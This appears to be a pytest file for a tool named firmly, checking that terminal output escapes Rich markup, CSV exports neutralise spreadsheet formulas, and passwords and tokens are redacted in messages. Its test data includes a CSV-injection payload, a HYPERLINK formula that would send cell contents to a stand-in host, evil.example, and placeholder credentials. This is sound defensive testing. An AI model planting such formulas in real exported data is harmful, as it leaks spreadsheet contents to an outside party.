"""What firmly prints is data as it is, wherever it goes: Rich markup in a name is text in the terminal, a
formula in a name is text in a spreadsheet, and a password in a URL is never echoed.

Each runs the real `firmly` command (and the web UI's CSV download through the ASGI client)."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from firmly import bootstrap, redact
from firmly.domain.ports import OutboxRow
from firmly.doors.api import create_app
from firmly.service import demo, outbox, reports, users
from tests.conftest import forget_workspace

CLINIC = Path(__file__).resolve().parents[2] / "src" / "firmly" / "examples" / "clinic-en"
MARKUP_KEY = "bad[/x]key"
MARKUP_NAME = "Evil [/bold] [link=http://x]here[/link]"
FORMULA_KEY = "@SUM(1+1)"
FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def firmly(tmp_path: Path, *args: str, db: str, workspace: str = "safe",
           env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    full = {**os.environ, "FIRMLY_DATABASE_URL": db, "FIRMLY_WORKSPACE": workspace, "COLUMNS": "250",
            **(env or {})}
    return subprocess.run([sys.executable, "-m", "firmly", *args], cwd=tmp_path, env=full, capture_output=True,
                          text=True, timeout=120, check=False)


def toms_story_as(key: str, name: str) -> str:
    """The clinic example's Tom (five late cancellations: a fee, a warning, a proposed suspension) under
    another key and name, as .jsonl."""
    lines = []
    for line in (CLINIC / "events.jsonl").read_text(encoding="utf-8").splitlines():
        ev = json.loads(line)
        if ev["counterparty"] != "tom":
            continue
        ev = {**ev, "id": f"{key}-{ev['id']}", "counterparty": key}
        if ev["type"] == "counterparty.upserted":
            ev["data"] = {**ev["data"], "name": name}
        lines.append(json.dumps(ev))
    return "\n".join(lines) + "\n"


@pytest.fixture
def loaded(tmp_path: Path, database_url: str) -> str:
    forget_workspace(database_url, "safe")
    events = tmp_path / "events.jsonl"
    events.write_text(toms_story_as(MARKUP_KEY, MARKUP_NAME) + toms_story_as(FORMULA_KEY, FORMULA_NAME),
                      encoding="utf-8")
    for args in (("init",), ("rulebook", "load", str(CLINIC / "rulebook.yaml")), ("ingest", str(events))):
        done = firmly(tmp_path, *args, db=database_url)
        assert done.returncode == 0, done.stdout + done.stderr
    return database_url


def test_rich_markup_in_data_is_printed_as_text(tmp_path: Path, loaded: str) -> None:
    for args in (("counterparty", "list"), ("counterparty", "show", MARKUP_KEY), ("decisions",), ("review", "list"),
                 ("report", "cost-to-serve"), ("account", "show", MARKUP_KEY)):
        done = firmly(tmp_path, *args, db=loaded)
        said = done.stdout + done.stderr
        assert done.returncode == 0, (args, said)
        assert "Traceback" not in said and "MarkupError" not in said
        assert MARKUP_KEY in said, (args, said)
        if args[0] == "counterparty":
            assert "Evil [/bold] [link=http://x]here[/link]" in said, said


def test_a_connectors_name_is_printed_as_text(tmp_path: Path, loaded: str) -> None:
    done = firmly(tmp_path, "connector", "add", "calcom", "--name", MARKUP_NAME, "--json", db=loaded)
    assert done.returncode == 0, done.stdout + done.stderr
    made = json.loads(done.stdout)["id"]
    for args in (("connector", "list"), ("connector", "show", made)):
        shown = firmly(tmp_path, *args, db=loaded)
        said = shown.stdout + shown.stderr
        assert shown.returncode == 0, (args, said)
        assert "Traceback" not in said and "MarkupError" not in said
        assert MARKUP_NAME in said.replace("\n", ""), (args, said)


def test_csv_exports_neutralise_formulas(tmp_path: Path, loaded: str) -> None:
    done = firmly(tmp_path, "report", "cost-to-serve", "--csv", db=loaded)
    assert done.returncode == 0, done.stderr
    rows = {r["key"]: r for r in csv.DictReader(io.StringIO(done.stdout))}
    assert set(rows) == {MARKUP_KEY, "'" + FORMULA_KEY}
    assert rows["'" + FORMULA_KEY]["name"] == "'" + FORMULA_NAME
    assert rows[MARKUP_KEY]["name"] == MARKUP_NAME  # only a formula's first character changes anything

    store = bootstrap.store(loaded, "safe")
    users.create(store, "csv-reader@example.org", "viewer", "correct horse battery", 0)
    with TestClient(create_app(loaded), base_url="http://testserver") as client:
        page = client.get("/login").text
        token = page.split('name="csrf" value="', 1)[1].split('"', 1)[0]
        client.post("/login", data={"csrf": token, "email": "csv-reader@example.org",
                                    "password": "correct horse battery", "next": "/"})
        download = client.get("/reports/cost-to-serve.csv")
    assert download.status_code == 200
    web_rows = {r["key"]: r for r in csv.DictReader(io.StringIO(download.text))}
    assert web_rows["'" + FORMULA_KEY]["name"] == "'" + FORMULA_NAME


@pytest.mark.parametrize(("value", "cell"), [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("-12.50", "-12.50"), ("+7", "+7"), ("Tom = 1", "Tom = 1"), ("", ""), (-3, -3),
    (None, None),
])
def test_a_csv_cell_is_text_unless_it_is_a_plain_number(value: object, cell: object) -> None:
    assert reports.csv_cell(value) == cell


@pytest.mark.parametrize(("given", "shown"), [
    ("postgresql://firmly:hunter2@db.internal:5432/firmly", "postgresql://firmly:***@db.internal:5432/firmly"),
    ("smtp://mailer%40example.org:p%40ss@mail:587?starttls=true", "smtp://mailer%40example.org:***@mail:587?starttls=true"),
    ("postgresql://me:p@ss@host/db", "postgresql://me:***@host/db"),  # an unencoded @ in the password
    ("sqlite:///var/lib/firmly.db", "sqlite:///var/lib/firmly.db"),
    ("postgresql://firmly@db/firmly", "postgresql://firmly@db/firmly"),
    ("http://[::1", "http://[::1"),
])
def test_a_url_is_shown_without_its_password(given: str, shown: str) -> None:
    assert redact.url(given) == shown
    assert redact.text(f"cannot use {given!r} here") == f"cannot use {shown!r} here"


def test_tokens_and_webhook_secrets_are_masked_in_messages() -> None:
    said = redact.text("token fy_0a1b2c3d4e5f_S3cr3t-_x and whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw= failed")
    assert said == "token fy_0a1b2c3d4e5f_*** and whsec_*** failed"


@pytest.mark.parametrize(("args", "env", "says"), [
    (("counterparty", "list", "--db", "mysql://firmly:hunter2@db.internal/firmly"), {},
     "'mysql://firmly:***@db.internal/firmly'"),
    (("counterparty", "list", "--db", "postgresql://firmly:hunter2@127.0.0.1:1/firmly"), {},
     "cannot open the database"),
    (("worker", "--once"), {"FIRMLY_SMTP_URL": "smtq://mailer:hunter2@mail.example.org:587"},
     "'smtq://mailer:***@mail.example.org:587'"),
    (("workspace", "set", "webhook_url", "ftp://hooks:hunter2@example.org/in"), {}, "'ftp://hooks:***@example.org/in'"),
])
def test_errors_never_echo_a_password(tmp_path: Path, args: tuple[str, ...], env: dict[str, str], says: str) -> None:
    db = f"sqlite:///{tmp_path / 'secret.db'}"
    assert firmly(tmp_path, "init", db=db).returncode == 0
    done = firmly(tmp_path, *args, db=db, env=env)
    said = done.stdout + done.stderr
    assert done.returncode == 1, said
    assert "hunter2" not in said and "Traceback" not in said
    assert says in said, said


def test_the_outbox_and_settings_mask_a_webhook_urls_password(tmp_path: Path) -> None:
    db = f"sqlite:///{tmp_path / 'hook.db'}"
    store = bootstrap.store(db, "hook")
    demo.demo(store, "clinic-en", 0)
    with store.write():  # as the engine writes a webhook for a workspace whose webhook_url carries a password
        store.put_outbox([OutboxRow("m-1", "d-1", "tom", "webhook", "https://hooks:hunter2@example.org/in",
                                    "warning", "{}", None, "failed", 1, 0, 0,
                                    error="ConnectError: https://hooks:hunter2@example.org/in refused")])
    outbox.set_setting(store, "webhook_url", "https://hooks:hunter2@example.org/in")
    for args in (("outbox", "list"), ("outbox", "list", "--json"), ("workspace", "show"),
                 ("workspace", "show", "--json")):
        listed = firmly(tmp_path, *args, db=db, workspace="hook")
        assert listed.returncode == 0, listed.stderr
        assert "hunter2" not in listed.stdout and "https://hooks:***@example.org/in" in listed.stdout
